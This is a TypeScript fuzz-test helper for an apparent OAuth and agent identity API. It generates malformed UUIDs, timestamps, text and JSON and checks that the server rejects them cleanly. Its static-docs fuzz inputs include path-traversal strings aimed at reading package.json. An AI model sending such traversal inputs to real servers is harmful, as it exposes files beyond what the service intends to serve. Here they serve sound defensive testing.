    path: '/api/v1/agents/:id/delegations',
    errorKind: 'problem',
    auth: 'bearer',
    body: 'json',
    params: { id: anyAgent },
    // The fuzzed client's agent holds weather:read and delegates it to the second agent (the first has it already).
    exampleParams: (ctx) => ({ id: ctx.client.agentId }),
    validBody: (ctx) => ({ actor_id: ctx.agentIds[1], scopes: ['weather:read'], expires_at: new Date(Date.now() + 86_400_000).toISOString() }),
    columns: { params: AGENT_ID, body: { actor_id: 'uuid', expires_at: 'timestamptz' } }
  },
  { name: 'GET /api/v1/agents/{id}/delegations', method: 'GET', path: '/api/v1/agents/:id/delegations', errorKind: 'problem', auth: 'bearer', params: { id: anyAgent }, columns: { params: AGENT_ID } },
  {
    name: 'DELETE /api/v1/agents/{id}/delegations/{delegation_id}',
    method: 'DELETE',
    path: '/api/v1/agents/:id/delegations/:delegation_id',
    errorKind: 'problem',
    auth: 'bearer',
    params: { id: anyAgent, delegation_id: (ctx) => fc.constantFrom(...ctx.delegationIds) },
    exampleParams: (ctx) => ({ id: ctx.client.agentId, delegation_id: ctx.delegationIds[0] as string }),
    columns: { params: { id: 'uuid', delegation_id: 'uuid' } }
  },
  {
    name: 'POST /api/v1/subject-trusts',
    method: 'POST',
    path: '/api/v1/subject-trusts',
    errorKind: 'problem',
    auth: 'bearer',
    body: 'json',
    // The public key of RFC 9449's examples: a trust needs keys, and inline ones fetch nothing.
    validBody: (ctx) => ({
      issuer: 'https://login.example.org',
      audience: 'https://idp.example.com',
      claims: { tid: 'fuzz' },
      jwks: { keys: [{ kty: 'EC', crv: 'P-256', x: 'l8tFrhx-34tV3hRICRDY9zCkDlpBhF42UQUfWVAWBFs', y: '9VE4jf_Ok_o64zbTTlcuNJajHmt6v9TDVrU0CdvGRDA' }] },
      actors: [{ agent_id: ctx.agentIds.at(-1), scopes: ['weather:read'] }]
    }),
    columns: { body: { issuer: 'text', audience: 'text', claims: 'jsonb' } }
  },
  { name: 'GET /api/v1/subject-trusts', method: 'GET', path: '/api/v1/subject-trusts', errorKind: 'problem', auth: 'bearer' },
  {
    name: 'DELETE /api/v1/subject-trusts/{id}',
    method: 'DELETE',
    path: '/api/v1/subject-trusts/:id',
    errorKind: 'problem',
    auth: 'bearer',
    params: { id: (ctx) => fc.constantFrom(...ctx.subjectTrustIds) },
    exampleParams: (ctx) => ({ id: ctx.subjectTrustIds[0] as string }),
    columns: { params: { id: 'uuid' } }
  },
  { name: 'GET /api/v1/audit-events', method: 'GET', path: '/api/v1/audit-events', errorKind: 'problem', auth: 'bearer', query: { type: fc.constantFrom('auth.failed', 'agent.created,agent.updated'), agent_id: fc.uuid(), actor: fc.constantFrom('test-admin', 'anonymous'), since: timestamp, until: timestamp, limit: fc.integer({ min: 1, max: 500 }).map(String), cursor: fc.string({ minLength: 1, maxLength: 20 }) }, columns: { querystring: { agent_id: 'uuid', actor: 'text', since: 'timestamptz', until: 'timestamptz', cursor: 'bigint-cursor' } } },
  { name: 'GET /api/v1/audit-events/export', method: 'GET', path: '/api/v1/audit-events/export', errorKind: 'problem', auth: 'bearer', query: { since: timestamp, until: timestamp }, columns: { querystring: { since: 'timestamptz', until: 'timestamptz' } } },
  { name: 'GET /health/live', method: 'GET', path: '/health/live', errorKind: 'problem', auth: 'none' },
  { name: 'GET /health/ready', method: 'GET', path: '/health/ready', errorKind: 'problem', auth: 'none' },
  { name: 'GET /metrics', method: 'GET', path: '/metrics', errorKind: 'problem', auth: 'none' },
  { name: 'GET /docs/json', method: 'GET', path: '/docs/json', errorKind: 'problem', auth: 'none' },
  { name: 'GET /docs', method: 'GET', path: '/docs', errorKind: 'problem', auth: 'none' },
  {
    name: 'POST /oauth2/token',
    method: 'POST',
    path: '/oauth2/token',
    errorKind: 'oauth',
    auth: 'client',
    body: 'form',
    form: () => ({
      grant_type: fc.oneof({ weight: 9, arbitrary: fc.constant('client_credentials') }, { weight: 1, arbitrary: fc.constantFrom('password', 'authorization_code', 'CLIENT_CREDENTIALS', 'client_credentials ', 'refresh_token', 'urn:ietf:params:oauth:grant-type:jwt-bearer') }),
      // Granted, partly granted, never granted, malformed (RFC 6749 §3.3).
      scope: fc.constantFrom('weather:read', 'weather:read weather:write', ' weather:read  ', '', 'agents:write', 'weather:read admin', 'weather:read\tweather:write', 'weather:"read', 'wëather:read'),
      resource: fc.constantFrom('https://api.example.com/', 'urn:example:apis', 'https://api.example.com/a?b=c', '/relative', 'https://api.example.com/#fragment', 'not a uri', '')
    }),
    columns: { body: { ...CLIENT_COLUMNS, grant_type: 'unstored', scope: 'unstored', resource: 'unstored' } }
  },
  {
    name: 'POST /oauth2/revoke',
    method: 'POST',
    path: '/oauth2/revoke',
    errorKind: 'oauth',
    auth: 'client',
    body: 'form',
    form: (ctx) => ({ token: tokenToPresent(ctx), token_type_hint: fc.constantFrom('access_token', 'refresh_token', 'id_token', '') }),
    columns: { body: { ...CLIENT_COLUMNS, token: 'unstored', token_type_hint: 'unstored' } }
  },
  {
    name: 'POST /oauth2/introspect',
    method: 'POST',
    path: '/oauth2/introspect',
    errorKind: 'oauth',
    auth: 'client',
    body: 'form',
    form: (ctx) => ({ token: tokenToPresent(ctx), token_type_hint: fc.constantFrom('access_token', 'refresh_token', 'id_token', '') }),
    columns: { body: { ...CLIENT_COLUMNS, token: 'unstored', token_type_hint: 'unstored' } }
  },
  { name: 'GET /docs/static/{file}', method: 'GET', path: '/docs/static/:file', errorKind: 'problem', auth: 'none', params: { file: () => fc.constantFrom('index.html', 'swagger-ui.css', 'swagger-ui-bundle.js', '..%2F..%2Fpackage.json', '%2E%2E/%2E%2E/package.json') } }
]

/** Seeds the app with agents and credentials to aim at, and the tokens the generators send. */
export async function prepareFuzzContext (
  app: App,
  createAgent: (app: App, body?: Record<string, unknown>) => Promise<Record<string, any>>,
  createCredential: (app: App, agentId: string) => Promise<Record<string, any>>
): Promise<FuzzContext> {
  const agents = [await createAgent(app), await createAgent(app), await createAgent(app, { name: 'fuzzed client', scopes: ['weather:read', 'weather:write'], resources: ['https://api.example.com/', 'urn:example:apis', 'https://api.example.com/a?b=c'] })]
  const credentials = []
  for (const agent of agents.slice(0, 2)) credentials.push({ agentId: agent.id as string, credentialId: (await createCredential(app, agent.id)).id as string })
  const issued = await createCredential(app, agents[2]?.id)
  const client = { agentId: agents[2]?.id as string, clientId: issued.client_id as string, secret: issued.client_secret as string, credentialId: issued.id as string }
  // Tokens shaped as /oauth2/token issues them, without issuing them: the fuzzing starts from an empty audit trail.
  const ownToken = async (expiresIn: number): Promise<string> => await mintAccessToken(app, { sub: client.agentId, clientId: client.clientId, scopes: ['weather:read'], expiresIn, claims: { credential_id: client.credentialId } })
  const foreign = credentials[0] as { agentId: string, credentialId: string }
  const adminBearer = `Bearer ${await mintAccessToken(app, { scopes: ADMIN_SCOPES, expiresIn: 3600 })}`
  const agentIds = agents.map((agent) => agent.id as string)
  const create = async (url: string, payload: Record<string, unknown>): Promise<string> => {
    const response = await app.inject({ method: 'POST', url, headers: { authorization: adminBearer }, payload })
    if (response.statusCode !== 201) throw new Error(`POST ${url}: ${response.statusCode} ${response.body}`)
    return response.json().id
  }
  // The fuzzed client's agent delegates to the first agent (an agent delegates only scopes it holds); the
  // delegation endpoint's own valid body names the second.
  const delegationIds = [await create(`/api/v1/agents/${client.agentId}/delegations`, { actor_id: agentIds[0], scopes: ['weather:read'] })]
  const trust = ENDPOINTS.find((endpoint) => endpoint.name === 'POST /api/v1/subject-trusts')?.validBody?.({ agentIds } as FuzzContext) as Record<string, unknown>
  const subjectTrustIds = []
  for (let i = 0; i < 3; i++) subjectTrustIds.push(await create('/api/v1/subject-trusts', trust))
  return {
    agentIds,
    credentials,
    delegationIds,
    subjectTrustIds,
    adminBearer,
    scopelessBearer: `Bearer ${await mintAccessToken(app, { scopes: ['weather:read'], expiresIn: 3600, sub: newId() })}`,
    client,
    clientBasic: basicAuth(client.clientId, client.secret),
    tokens: {
      own: await Promise.all(Array.from({ length: 30 }, async () => await ownToken(3600))),
      foreign: await Promise.all(Array.from({ length: 3 }, async () => await mintAccessToken(app, { sub: foreign.agentId, clientId: 'agt_someone_else', scopes: ['weather:read'], expiresIn: 3600, claims: { credential_id: foreign.credentialId } }))),
      expired: await ownToken(-3600)
    }
  }
}

/**
 * The request every property run of a management or operations endpoint starts with (fast-check's examples): its
 * own method and path with ids that exist, the valid credential and body. It succeeds, so the runs reach the
 * handler's success side whatever else they generate: where success needs method, credential, path and body right
 * at once, the random runs reach it by chance only.
 */
export function wellFormedRequest (endpoint: EndpointDescriptor, ctx: FuzzContext): FuzzRequest {
  const params = endpoint.exampleParams?.(ctx) ?? { id: ctx.agentIds[0] as string }
  const headers: Record<string, string> = endpoint.auth === 'bearer' ? { authorization: ctx.adminBearer } : {}
  const options: InjectOptions = { method: endpoint.method, url: fillPath(endpoint.path, (name) => params[name] as string), headers, remoteAddress: '127.0.0.1' }
  if (endpoint.validBody !== undefined) {
    headers['content-type'] = 'application/json'
    options.payload = JSON.stringify(endpoint.validBody(ctx))
  }
  return { options, authorized: true, routed: true }
}

/** Rejects when the promise has not settled after ms: a request must never hang. */
export async function bounded<T> (promise: Promise<T>, ms: number, what: string): Promise<T> {
  let timer: NodeJS.Timeout | undefined
  try {
    return await Promise.race([promise, new Promise<never>((_resolve, reject) => { timer = setTimeout(() => reject(new Error(`${what}: no answer within ${ms} ms`)), ms) })])
  } finally {
    clearTimeout(timer)
  }
}

/**
 * An error response of the right kind: problem+json whose status matches the response's, or RFC 6749 JSON with
 * an error code and no-store. HEAD answers carry no body and are not checked for one.
 */
export function expectErrorBody (response: LightMyRequestResponse, kind: ErrorKind, method: string): void {
  if (method === 'HEAD') return
  // No stack trace or internals, whatever went wrong.
  expect(response.body).not.toMatch(/\\n\s+at |node_modules/)
  if (kind === 'oauth') {
    expect(response.headers['content-type'], response.body).toMatch(/^application\/json/)
    expect(response.headers['cache-control']).toBe('no-store')
    const body = response.json()
    expect(typeof body.error, response.body).toBe('string')
    expect(body).not.toHaveProperty('stack')
    return
  }
  expect(response.headers['content-type'], response.body).toMatch(/^application\/problem\+json/)
  const problem = response.json()
  expect(problem).toMatchObject({ status: response.statusCode, type: expect.stringMatching(/^urn:agentidp:problem:/), title: expect.any(String) })
  expect(problem).not.toHaveProperty('stack')
}

/**
 * A fingerprint of everything in the database: every table's content hashed, except audit_events, whose rows are
 * counted by type (it only grows), and credentials.last_used_at, which client authentication writes off the response
 * path (at most once a minute per credential) and is given per credential instead. Compare before and after a
 * rejected request.
 */
export async function databaseFingerprint (app: App): Promise<{ tables: Record<string, string>, events: Record<string, number>, lastUsed: Record<string, string | null> }> {
  const tables = await ownerSql(app)<Array<{ table_name: string }>>`
    select table_name from information_schema.tables where table_schema = current_schema() and table_type = 'BASE TABLE' and table_name <> 'audit_events' order by table_name`
  const hashes = await ownerSql(app).unsafe<Array<{ name: string, hash: string }>>(tables.map(({ table_name: name }) =>
    `select '${name}' as name, md5(coalesce(string_agg((to_jsonb(t) - 'last_used_at')::text, '|' order by (to_jsonb(t) - 'last_used_at')::text), '')) as hash from "${name}" t`).join(' union all '))
  const events = await ownerSql(app)<Array<{ type: string, count: number }>>`select type, count(*)::int as count from audit_events group by type`
  const lastUsed = await ownerSql(app)<Array<{ id: string, last_used_at: Date | null }>>`select id, last_used_at from credentials`
  return {
    tables: Object.fromEntries(hashes.map((row) => [row.name, row.hash])),
    events: Object.fromEntries(events.map((row) => [row.type, row.count])),
    lastUsed: Object.fromEntries(lastUsed.map((row) => [row.id, row.last_used_at?.toISOString() ?? null]))
  }
}

/*
 * Column types. Each generator makes values of the kind a member of that type receives from a careless or hostile
 * client, weighted towards what the column cannot store; `unstorable` says, independently of the schemas, which of
 * them the column (or JavaScript on the way to it) cannot hold exactly. Those must be refused with a 4xx that names
 * the member; the rest may be accepted or refused, never answered with a 5xx.
 */

const isWellFormed = (text: string): boolean => (text as string & { isWellFormed(): boolean }).isWellFormed()
const BIGINT_MAX = 2n ** 63n - 1n

/** Text PostgreSQL would refuse (NUL) or alter (an unpaired surrogate becomes U+FFFD). */
const unstorableText = (text: string): boolean => text.includes('\u0000') || !isWellFormed(text)

const textValue: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.tuple(fc.string({ maxLength: 20 }), fc.constantFrom('\u0000', '\uD800', '\uDFFF', '\uDBFF\u0000', '\uDC00\uD800'), fc.string({ maxLength: 20 })).map(([a, bad, b]) => a + bad + b) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.constantFrom('', ' ', '\uFFFF', '\uFEFF', '😀', '\uD83D\uDE00\u0000', 'a'.repeat(128), 'a'.repeat(129), 'é'.repeat(1024), 'x'.repeat(1025), '𝔘'.repeat(129)) }
)

const CANONICAL_UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/
/** The spellings PostgreSQL's uuid input (or Ajv's uuid format) takes besides the canonical one, and near misses. */
const uuidValue: fc.Arbitrary<string> = fc.tuple(fc.uuid(), fc.constantFrom('canonical', 'upper', 'braces', 'bare', 'urn', 'mixed', 'spaced', 'grouped', 'short', 'nul')).map(([id, how]) => {
  switch (how) {
    case 'upper': return id.toUpperCase()
    case 'braces': return `{${id}}`
    case 'bare': return id.replace(/-/g, '')
    case 'urn': return `urn:uuid:${id}`
    case 'mixed': return id.slice(0, 18) + id.slice(18).toUpperCase()
    case 'spaced': return ` ${id}`
    case 'grouped': return id.replace(/-/g, '').replace(/(.{4})/g, '$1-').slice(0, -1)
    case 'short': return id.slice(0, -1)
    case 'nul': return `${id}\u0000`
    default: return id
  }
})

const pad = (n: number, width: number): string => String(Math.abs(n)).padStart(width, '0')
/** RFC 3339-ish renderings of instants across, and beyond, what JavaScript and PostgreSQL hold. */
const timestampValue: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.tuple(
      fc.integer({ min: -5000, max: 300_000 }), fc.integer({ min: 1, max: 12 }), fc.integer({ min: 1, max: 31 }),
      fc.integer({ min: 0, max: 24 }), fc.integer({ min: 0, max: 59 }), fc.integer({ min: 0, max: 60 }),
      fc.constantFrom('', '.5', '.123456789', '.1234567890123'),
      fc.constantFrom('Z', 'z', '+00:00', '-23:59', '+23:59', '+14:00', '-0800', '', '+24:00'),
      fc.constantFrom('T', 't', ' ')
    ).map(([year, month, day, hour, minute, second, fraction, offset, separator]) => {
      const y = year >= 0 && year <= 9999 ? pad(year, 4) : `${year < 0 ? '-' : '+'}${pad(year, 6)}`
      return `${y}-${pad(month, 2)}-${pad(day, 2)}${separator}${pad(hour, 2)}:${pad(minute, 2)}:${pad(second, 2)}${fraction}${offset}`
    })
  },
  { weight: 1, arbitrary: fc.date({ noInvalidDate: true }).map((date) => date.toISOString()) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '0000-01-01T00:00:00Z', '0001-01-01T00:00:00+01:00', '9999-12-31T23:59:59Z', '9999-12-31T23:59:59-01:00', '+275760-09-13T00:00:00Z',
      '+275760-09-13T00:00:00.001Z', '-271821-04-20T00:00:00Z', '2016-12-31T23:59:60Z', '2024-02-30T00:00:00Z', '2024-01-01T00:00:00',
      '1970-01-01T00:00:00Z', '2100-01-01T00:00:00Z', '2024-01-01T00:00:00\u0000Z', 'infinity', '-infinity', 'epoch', 'now'
    )
  }
)

/** What PostgreSQL (through a JavaScript Date) cannot hold: no instant, year 0 or before, past 9999, a leap second. */
function unstorableTimestamp (value: string): boolean {
  const time = Date.parse(value)
  if (Number.isNaN(time)) return true
  const year = new Date(time).getUTCFullYear()
  return year < 1 || year > 9999 || /:60(\.|[^0-9]|$)/.test(value)
}

/** Seqs around and beyond bigint, encoded as the audit API encodes its cursors. */
const bigintCursorValue: fc.Arbitrary<string> = fc.oneof(
  fc.bigInt({ min: 0n, max: 2n ** 70n }),
  fc.constantFrom(BIGINT_MAX, BIGINT_MAX + 1n, 10n ** 19n - 1n, 2n ** 64n)
).map((seq) => Buffer.from(`s${seq}`).toString('base64url'))

function unstorableBigintCursor (cursor: string): boolean {
  const match = /^s(\d+)$/.exec(Buffer.from(cursor, 'base64url').toString('latin1'))
  return match !== null && BigInt(match[1] as string) > BIGINT_MAX
}

/** Agent-list cursors: the base64url of a UUID in any of the spellings above. */
const uuidCursorValue: fc.Arbitrary<string> = uuidValue.map((id) => Buffer.from(wellFormed(id)).toString('base64url'))

const unstorableUuidCursor = (cursor: string): boolean => !CANONICAL_UUID.test(Buffer.from(cursor, 'base64url').toString('utf8'))

/** How many arrays and objects a jsonb value may nest (schemas/common.ts JSON_MAX_DEPTH): deeper overflowed the validator. */
const JSONB_MAX_DEPTH = 8

const jsonbValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.object({ key: textValue, values: [textValue, fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.boolean(), fc.constant(null)], maxDepth: 3, maxKeys: 4 }) },
  { weight: 1, arbitrary: fc.tuple(fc.oneof(fc.integer({ min: 1, max: 12 }), fc.integer({ min: 1, max: 3000 })), fc.constantFrom('array', 'object'), textValue).map(([depth, kind, leaf]) => ({ deep: nest(depth, kind, leaf) })) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) }
)

function nest (depth: number, kind: 'array' | 'object', leaf: string): unknown {
  let value: unknown = leaf
  for (let i = 0; i < depth; i++) value = kind === 'array' ? [value] : { k: value }
  return value
}

/** Whether a JSON value holds unstorable text (in a string or a member name) or nests more containers than jsonb may take. */
function unstorableJson (value: unknown): boolean {
  // A walk with a stack of its own: the values nest thousands deep, deeper than recursion may go.
  const pending: Array<[unknown, number]> = [[value, 0]]
  for (let next = pending.pop(); next !== undefined; next = pending.pop()) {
    const [item, depth] = next
    if (typeof item === 'string' && unstorableText(item)) return true
    if (item === null || typeof item !== 'object') continue
    if (depth + 1 > JSONB_MAX_DEPTH) return true
    for (const [key, member] of Object.entries(item)) {
      if (!Array.isArray(item) && unstorableText(key)) return true
      pending.push([member, depth + 1])
    }
  }
  return false
}

/** Each column type: its generator, and which of its values must be refused. */
export const COLUMN_TYPES: Record<ColumnType, { values: fc.Arbitrary<unknown>, unstorable: (value: unknown) => boolean }> = {
  text: { values: textValue, unstorable: (value) => unstorableText(value as string) },
  unstored: { values: textValue, unstorable: () => false },
  uuid: { values: uuidValue, unstorable: (value) => !CANONICAL_UUID.test(value as string) },
  timestamptz: { values: timestampValue, unstorable: (value) => unstorableTimestamp(value as string) },
  jsonb: { values: jsonbValue, unstorable: unstorableJson },
  'uuid-cursor': { values: uuidCursorValue, unstorable: (value) => unstorableUuidCursor(value as string) },
  'bigint-cursor': { values: bigintCursorValue, unstorable: (value) => unstorableBigintCursor(value as string) }
}

/** One request that sends one member a value of its column type; the rest of the request is well formed. */
export interface ColumnRequest {
  options: InjectOptions
  /** The member, as a validation error's location names it: body/name, querystring/owner, params/id. */
  location: string
  type: ColumnType
  /** The value as the server receives it (a query or path value cannot carry an unpaired surrogate). */
  received: unknown
  unstorable: boolean
}

/** Requests to the endpoint with one of its typed members (endpoint.columns) given a value of its column type. */
export function columnRequestArbitrary (endpoint: EndpointDescriptor, ctx: FuzzContext): fc.Arbitrary<ColumnRequest> {
  const members = Object.entries(endpoint.columns ?? {}).flatMap(([part, columns]) => Object.entries(columns).map(([name, type]) => ({ part: part as RequestPart, name, type })))
  if (members.length === 0) throw new Error(`${endpoint.name} declares no columns`)
  const names = [...endpoint.path.matchAll(/:([a-z_]+)/g)].map((match) => match[1] as string)
  const validParams = fc.tuple(...names.map((name) => endpoint.params?.[name]?.(ctx) ?? fc.uuid()))
  const validForm = endpoint.form === undefined ? fc.constant({}) : fc.record(endpoint.form(ctx))
  return fc.tuple(fc.constantFrom(...members), validParams, validForm).chain(([member, params, form]) => COLUMN_TYPES[member.type].values.map((value) => {
    // Only a JSON body carries any string as it is: a query, path or form value travels percent-encoded UTF-8,
    // which holds no unpaired surrogate (and so do the forms here: the server receives what it decodes).
    const received = member.part === 'body' && endpoint.body === 'json' ? value : wellFormed(String(value))
    const paramValues = Object.fromEntries(names.map((name, i) => [name, params[i] as string]))
    if (member.part === 'params') paramValues[member.name] = received as string
    const path = fillPath(endpoint.path, (name) => encodeURIComponent(paramValues[name] as string))
    const query = member.part === 'querystring' ? `?${member.name}=${encodeURIComponent(received as string)}` : ''
    const headers: Record<string, string> = {}
    const options: InjectOptions = { method: endpoint.method, url: path + query, headers }
    if (endpoint.auth === 'client') {
      const fields: Record<string, unknown> = { ...form, [member.name]: received }
      // client_id and client_secret are tested in the form (client_secret_post); otherwise the client uses Basic.
      if (member.name === 'client_id') fields.client_secret = ctx.client.secret
      else if (member.name === 'client_secret') fields.client_id = ctx.client.clientId
      else headers.authorization = ctx.clientBasic
      headers['content-type'] = 'application/x-www-form-urlencoded'
      options.payload = new URLSearchParams(Object.entries(fields).map(([name, item]) => [name, String(item)])).toString()
    } else {
      headers.authorization = ctx.adminBearer
      if (endpoint.validBody !== undefined) {
        headers['content-type'] = 'application/json'
        options.payload = JSON.stringify(member.part === 'body' ? { ...endpoint.validBody(ctx), [member.name]: value } : endpoint.validBody(ctx))
      }
    }
    return { options, location: `${member.part}/${member.name}`, type: member.type, received, unstorable: COLUMN_TYPES[member.type].unstorable(received) }
  }))
}
